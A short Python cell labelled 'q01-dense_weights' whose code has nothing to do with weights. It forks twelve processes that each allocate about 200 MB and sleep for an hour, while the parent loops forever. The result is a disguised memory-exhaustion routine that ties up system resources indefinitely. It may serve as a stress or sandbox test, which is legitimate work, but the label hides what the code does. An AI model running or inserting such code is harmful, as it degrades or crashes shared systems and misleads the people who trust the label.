# %% q01-dense_weights
import os
import time

for _ in range(12):
    if os.fork() == 0:
        hoard = b"x" * (200 * 2**20)
        time.sleep(3600)
while True:
    time.sleep(3600)
